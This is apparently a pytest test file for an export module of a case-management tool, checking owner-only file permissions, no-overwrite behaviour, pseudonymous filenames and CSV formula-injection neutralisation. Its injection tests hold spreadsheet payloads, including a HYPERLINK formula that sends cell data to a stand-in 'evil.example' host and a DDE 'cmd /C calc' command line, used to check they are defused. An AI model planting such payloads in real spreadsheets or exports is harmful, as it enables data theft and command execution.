"""One writer for every file ahtui writes for people to take elsewhere (issue 15).

My Plan (Markdown, HTML), the assessment (Markdown, HTML), meetings (.ics), minutes, the
actions CSV and the .eml drafts, each written from a real site through the real services:
owner-only (0600) from creation whatever the umask, never over an existing file unless told
to, no temporary file left behind, and named by the person's reference, never their name.
The actions CSV writes a cell a spreadsheet would run as a formula with a `'` in front.
"""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_exports_documents import TODAY, build_case

from ahtui.errors import BadInput
from ahtui.exports.actions_csv import (
    FORMULA_STARTS,
    actions_csv,
    actions_filename,
    write_actions_csv,
)
from ahtui.exports.documents import export_document
from ahtui.exports.eml import build_eml, eml_filename, save_eml

Exporter = Callable[[Any, str, Path, bool], Path]


def _document(kind: str, fmt: str) -> Exporter:
    def write(site: Any, pid: str, folder: Path, force: bool) -> Path:
        done = export_document(site, kind, pid, fmt=fmt, out=folder, force=force, today=TODAY)
        return done.path

    return write


def _actions(site: Any, pid: str, folder: Path, force: bool) -> Path:
    from ahtui.store import actions, people

    person = people.get_person(site, pid)
    path = folder / actions_filename(person, "mine", TODAY)
    ref = {"name": "Roberts, Zak", "crn": person["crn"], "nomis_number": person["nomis_number"]}
    write_actions_csv(actions.actions_for(site, pid), path, TODAY, person=ref, force=force)
    return path


def _eml(site: Any, pid: str, folder: Path, force: bool) -> Path:
    from ahtui.store import people

    person = people.get_person(site, pid)
    message = build_eml(
        subject="Joined-up support for Zak Roberts",
        body="Dear Morgan,\n\nAbout Zak Roberts.\n",
        to_name="Morgan Hughes",
        to_address="morgan@la.example.org",
        from_name="Jo Patel",
        from_address="jo@prison.example.org",
    )
    return save_eml(message, folder / eml_filename("introduction", person, TODAY), force=force)


EXPORTERS: dict[str, Exporter] = {
    "myplan-md": _document("myplan", "md"),
    "myplan-html": _document("myplan", "html"),
    "assessment-md": _document("assessment", "md"),
    "assessment-html": _document("assessment", "html"),
    "meetings-ics": _document("meetings", "ics"),
    "minutes-md": _document("minutes", "md"),
    "actions-csv": _actions,
    "email-eml": _eml,
}


@pytest.fixture
def open_umask() -> Iterator[None]:
    """A umask that would let anyone read a file made with the default mode."""
    old = os.umask(0)
    try:
        yield
    finally:
        os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.mark.parametrize("which", list(EXPORTERS))
def test_every_exporter_writes_owner_only_never_over_a_file_and_leaves_no_temp(
    which: str, site, tmp_path: Path, open_umask: None
) -> None:
    ids = build_case(site)
    write = EXPORTERS[which]
    folder = tmp_path / "out"
    folder.mkdir()
    path = write(site, ids["person"], folder, False)
    assert path.parent == folder and path.stat().st_size > 0
    assert _mode(path) == 0o600
    # Named by the person's reference, never their given or family name.
    assert "x100022" in path.name
    assert "zak" not in path.name.casefold() and "roberts" not in path.name.casefold()
    # A second write without being told to replace is refused and keeps the first file.
    path.write_bytes(b"kept")
    with pytest.raises(BadInput, match="already exists"):
        write(site, ids["person"], folder, False)
    assert path.read_bytes() == b"kept"
    # Told to replace: the new file, still owner-only.
    assert write(site, ids["person"], folder, True) == path
    assert path.read_bytes() != b"kept" and _mode(path) == 0o600
    assert [p.name for p in folder.iterdir()] == [path.name]  # no temporary file left


def test_without_a_crn_the_csv_and_eml_are_named_by_a_short_id(site, tmp_path: Path) -> None:
    from ahtui.store import people

    pid = people.create_person(
        site, {"given_name": "Zak", "family_name": "Roberts", "pathway": "short"}
    )
    person = people.get_person(site, pid)
    assert actions_filename(person, "mine", TODAY) == f"actions-{pid[:8]}-2025-03-03.csv"
    assert eml_filename("professional_challenge", person, TODAY) == (
        f"professional-challenge-{pid[:8]}-2025-03-03.eml"
    )
    assert actions_filename(None, "overdue", TODAY) == "actions-overdue-2025-03-03.csv"


# -- the CSV and formulas ----------------------------------------------------------------------
def _read(path_or_text: Path | str) -> list[dict[str, str]]:
    if isinstance(path_or_text, Path):
        with path_or_text.open(newline="", encoding="utf-8") as fh:
            return list(csv.DictReader(fh))
    return list(csv.DictReader(io.StringIO(path_or_text, newline="")))


def test_formula_prefixes_typed_through_the_service_are_neutralised(site, tmp_path: Path) -> None:
    from ahtui.store import actions, people, team

    pid = people.create_person(
        site,
        {"given_name": "Zak", "family_name": "Roberts", "pathway": "short", "crn": "X100022"},
    )
    who = team.add_practitioner(site, {"name": "@Morgan", "role": "pa"})
    steps = {
        '=HYPERLINK("http://evil.example/?"&A1,"Click")': "=1+1",
        "+1+cmd|' /C calc'!A0": "-2+3",
        "-1": "@SUM(A1:A9)",
        "@SUM(1,2)": "plain notes",
        "Plain step": "",
    }
    for step, notes in steps.items():
        actions.add_action(
            site, pid, {"step": step, "notes": notes, "responsible_practitioner_id": who}
        )
    out = tmp_path / "log.csv"
    write_actions_csv(
        actions.actions_for(site, pid),
        out,
        TODAY,
        person={"name": "=Roberts, Zak", "crn": "X100022", "nomis_number": None},
    )
    rows = {r["step"]: r for r in _read(out)}
    assert set(rows) == {"'" + s if s[0] in "=+-@" else s for s in steps}
    for step, notes in steps.items():
        row = rows["'" + step if step[0] in "=+-@" else step]
        assert row["notes"] == ("'" + notes if notes[:1] in ("=", "+", "-", "@") else notes)
        assert row["responsible"] == "'@Morgan"
        assert row["person"] == "'=Roberts, Zak"
        assert row["crn"] == "X100022"


@pytest.mark.parametrize("prefix", FORMULA_STARTS)
def test_each_formula_prefix_is_neutralised_in_every_column(prefix: str) -> None:
    # As a row could arrive by sync, bypassing the form's trimming: tab and CR included.
    cell = prefix + "1+1"
    row = {
        "step": cell,
        "responsible_name": cell,
        "due_on": None,
        "completed_on": None,
        "follow_up_of": None,
        "notes": cell,
        "person_name": cell,
        "crn": cell,
        "nomis_number": cell,
    }
    text, count = actions_csv([row], TODAY)
    (back,) = _read(text)
    assert count == 1
    for column in ("person", "crn", "nomis_number", "step", "responsible", "notes"):
        assert back[column] == "'" + cell, column
    assert back["status"] == "open"


def _expected(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_STARTS) else text


@settings(max_examples=300, deadline=None)
@given(
    st.text(
        alphabet=st.one_of(
            st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", '"', ",", "'", " "]),
            st.characters(codec="utf-8"),
        )
    )
)
def test_any_step_reads_back_as_written_or_with_a_quote_before_a_formula(step: str) -> None:
    row = {
        "step": step,
        "responsible_name": None,
        "due_on": None,
        "completed_on": None,
        "follow_up_of": None,
        "notes": None,
    }
    text, _ = actions_csv([row], TODAY, person={"name": "N", "crn": "X1", "nomis_number": ""})
    (back,) = _read(text)
    assert back["step"] == _expected(step)


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    step=st.text(
        alphabet=st.one_of(
            st.sampled_from(["=", "+", "-", "@", '"', ",", "'"]),
            st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Zs", "Zl", "Zp"]),
        ),
        min_size=1,
    )
)
def test_a_step_saved_by_the_service_reads_back_from_the_file(
    step: str, site, tmp_path_factory: pytest.TempPathFactory
) -> None:
    from ahtui.store import actions, people

    pid = people.create_person(
        site, {"given_name": "Zak", "family_name": "Roberts", "pathway": "short"}
    )
    aid = actions.add_action(site, pid, {"step": step})
    stored = next(r for r in actions.actions_for(site, pid) if r["id"] == aid)["step"]
    out = tmp_path_factory.mktemp("csv") / "log.csv"
    write_actions_csv(actions.actions_for(site, pid), out, TODAY)
    assert _mode(out) == 0o600
    (back,) = _read(out)
    assert back["step"] == _expected(stored)
    assert stored == step.strip()


def test_the_csv_keeps_its_columns(site, tmp_path: Path) -> None:
    from ahtui.exports.actions_csv import COLUMNS

    text, count = actions_csv([], date(2025, 3, 3))
    assert count == 0 and next(csv.reader(io.StringIO(text))) == list(COLUMNS)


# -- through the screens ---------------------------------------------------------------------
def _names(app: Any, person_id: str) -> tuple[str, str]:
    person = app.site.one("SELECT given_name, family_name FROM people WHERE id = ?", (person_id,))
    return person["given_name"].casefold(), person["family_name"].casefold()


async def test_the_actions_screen_saves_owner_only_and_asks_before_replacing(
    unlocked, tmp_path: Path
) -> None:
    from test_app_screens import error, fill, open_first_person

    from ahtui.screens.actions import ActionsScreen

    app, pilot = unlocked
    pid = await open_first_person(app, pilot)
    await pilot.press("a")
    assert isinstance(app.screen, ActionsScreen)
    await pilot.press("x")
    form = await fill(pilot, {}, save=False)
    suggested = Path(form.values()["path"])
    given_name, family_name = _names(app, pid)
    assert suggested.name.startswith("actions-") and suggested.suffix == ".csv"
    assert given_name not in suggested.name.casefold()
    assert family_name not in suggested.name.casefold()
    await pilot.press("ctrl+s")
    await pilot.pause()
    assert isinstance(app.screen, ActionsScreen) and _mode(suggested) == 0o600
    # Again to the same file: refused on the path field, the file kept, until told to replace.
    suggested.write_text("kept")
    await pilot.press("x")
    form = await fill(pilot, {})
    assert "already exists" in error(form, "path")
    assert suggested.read_text() == "kept"
    await fill(pilot, {"replace": True})
    assert isinstance(app.screen, ActionsScreen)
    assert suggested.read_text().startswith("person,crn,") and _mode(suggested) == 0o600
    assert [p.name for p in suggested.parent.iterdir()] == [suggested.name]


async def test_the_email_screen_saves_owner_only_named_without_the_name(unlocked) -> None:
    from test_app_screens import error, fill, open_first_person

    from ahtui.config import data_dir
    from ahtui.screens.emails import EmailsScreen

    app, pilot = unlocked
    pid = await open_first_person(app, pilot)
    await pilot.press("e")
    assert isinstance(app.screen, EmailsScreen)
    to = app.site.one(
        "SELECT practitioner_id FROM team_members WHERE person_id = ? AND to_date IS NULL "
        "AND role = 'pa'",  # the introduction goes to the Personal Advisor
        (pid,),
    )["practitioner_id"]
    await pilot.press("n")
    await fill(pilot, {"template": "introduction", "to": to})
    assert isinstance(app.screen, EmailsScreen)
    (saved,) = (data_dir() / "emails").iterdir()
    given_name, family_name = _names(app, pid)
    assert saved.name.startswith("introduction-") and saved.name.endswith("-2025-03-03.eml")
    assert given_name not in saved.name.casefold()
    assert family_name not in saved.name.casefold()
    assert _mode(saved) == 0o600
    recorded = len(app.screen.rows)
    # The same email again the same day: refused, nothing recorded, until told to replace.
    await pilot.press("n")
    form = await fill(pilot, {"template": "introduction", "to": to})
    assert "already exists" in error(form, "path")
    await fill(pilot, {"replace": True})
    assert isinstance(app.screen, EmailsScreen)
    assert len(app.screen.rows) == recorded + 1
    assert [p.name for p in saved.parent.iterdir()] == [saved.name]
